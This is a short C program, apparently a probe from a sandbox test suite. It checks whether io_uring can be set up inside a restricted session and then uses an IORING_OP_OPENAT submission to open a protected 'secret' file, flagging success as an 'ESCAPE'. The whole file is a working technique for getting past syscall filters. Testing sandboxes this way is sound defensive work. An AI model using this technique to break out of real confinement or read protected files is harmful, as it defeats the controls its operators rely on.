#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>
int main(int argc, char **argv) {
    ARGS
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = raw(SYS_io_uring_setup, 4, &p, 0, 0);
    printf("raw io_uring_setup: %ld%s\n", fd, fd >= 0 ? " ESCAPE: io_uring set up in a session" : "");
    memset(&p, 0, sizeof p);
    long fd2 = lc(syscall(SYS_io_uring_setup, 4, &p));
    printf("libc io_uring_setup: %ld%s\n", fd2, fd2 >= 0 ? " ESCAPE: io_uring set up in a session" : "");
    if (fd >= 0) {
        /* submit IORING_OP_OPENAT of the secret */
        size_t sqsz = p.sq_off.array + p.sq_entries * 4, cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
        char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
        char *cq = mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_CQ_RING);
        struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES);
        if (sq != MAP_FAILED && cq != MAP_FAILED && sqes != MAP_FAILED) {
            memset(sqes, 0, sizeof *sqes);
            sqes[0].opcode = IORING_OP_OPENAT;
            sqes[0].fd = AT_FDCWD;
            sqes[0].addr = (unsigned long)secret;
            sqes[0].open_flags = O_RDONLY;
            ((unsigned *)(sq + p.sq_off.array))[0] = 0;
            __atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
            long r = raw6(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
            struct io_uring_cqe *c = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
            printf("io_uring_enter: %ld, cqe res %d\n", r, c[0].res);
            show("io_uring openat secret", c[0].res);
        }
    }
    return 0;
}
